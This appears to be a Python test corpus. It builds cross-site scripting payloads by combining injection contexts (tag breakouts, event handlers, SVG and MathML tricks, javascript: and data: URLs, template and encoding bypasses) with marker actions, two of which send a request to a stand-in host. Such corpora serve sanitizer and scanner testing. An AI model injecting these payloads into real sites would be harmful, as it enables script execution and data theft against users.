"""Texts that would run a script wherever they were taken for markup, code or an address."""

from itertools import product

# What would be noticed: a mark on the window, a dialog, a request to elsewhere.
ACTS = (
    "window.__ran=1",
    "__ran=1",
    "self['__ran']=1",
    "top.__ran=1",
    "alert(1)",
    "confirm(1)",
    "eval('__ran=1')",
    "Function('__ran=1')()",
    "new Image().src='//elsewhere.example/x'",
    "fetch('//elsewhere.example/x')",
)
# Where it would be: %s is the act.
CONTEXTS = (
    "<script>%s</script>",
    "</script><script>%s</script>",
    "</title><ScRiPt >%s</sCrIpT>",
    "</textarea><img src=x onerror=%s>",
    "<img src=x onerror=\"%s\">",
    "\"><img src=x onerror=%s>",
    "' autofocus tabindex=1 onfocus=%s x='",
    "\" autofocus tabindex=1 onfocus=%s x=\"",
    "<svg onload=%s>",
    "<svg><animate onbegin=%s attributeName=x dur=1s>",
    "<svg><script>%s</script></svg>",
    "<details open ontoggle=%s>",
    "<video><source onerror=%s></video>",
    "<iframe srcdoc=\"<script>parent.%s</script>\"></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=%s>",
    "<noscript><p title=\"</noscript><img src=x onerror=%s>\">",
    "<form id=x tabindex=1 onfocusin=%s><input autofocus>",
    "<a id=config href=javascript:%s>x</a><a id=config name=url href=javascript:1>",
    "javascript:%s",
    "java\tscript:%s//",
    "data:text/html,<script>%s</script>",
    "';%s;//",
    "\\\";%s;//",
    "${%s}`-%s-`",
    "{{constructor.constructor('%s')()}}{%% debug %%}",
    "]]>--><script>%s</script><!--",
    "+ADw-script+AD4-%s+ADw-/script+AD4-",
    "&lt;script&gt;%s&lt;/script&gt;&#60;img src=x onerror=%s&#62;",
    "[x](javascript:%s)![x](x\" onerror=\"%s)",
    "\u200b<x style=\"background:url(javascript:%s)\" onanimationstart=%s>",
)  # fmt: skip
PAYLOADS = [context.replace("%s", act).replace("%%", "%") for context, act in product(CONTEXTS, ACTS)]
